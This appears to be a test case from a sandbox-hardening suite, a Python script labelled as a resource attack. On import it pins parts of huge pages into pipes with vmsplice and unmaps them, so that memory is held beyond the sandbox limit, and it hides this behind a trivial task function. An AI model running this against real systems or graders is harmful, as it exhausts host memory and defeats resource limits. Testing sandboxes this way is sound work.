# attack: gives a part of every huge page to a pipe, and unmaps the page
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: a pipe cannot keep what its pages are part of
import ctypes
import mmap
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.vmsplice.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_uint]
HUGE = 2 << 20


class Piece(ctypes.Structure):
    _fields_ = [("address", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def flood():
    kept = []
    held = 0
    while held < 2 * __LIMIT_MEMORY_MIB__ << 20:
        kept.append(os.pipe())
        for _ in range(8):
            pages = mmap.mmap(-1, 2 * HUGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            pages.madvise(14)  # MADV_HUGEPAGE
            view = ctypes.c_char.from_buffer(pages)
            start = (ctypes.addressof(view) + HUGE - 1) // HUGE * HUGE
            ctypes.memset(start, 1, HUGE)
            if libc.vmsplice(kept[-1][1], ctypes.byref(Piece(start, 4096)), 1, 0) != 4096:
                return False
            del view
            pages.close()
            held += HUGE
    time.sleep(2)
    return True


WON = flood()


def task_func(n):
    return n * 2 if WON else None
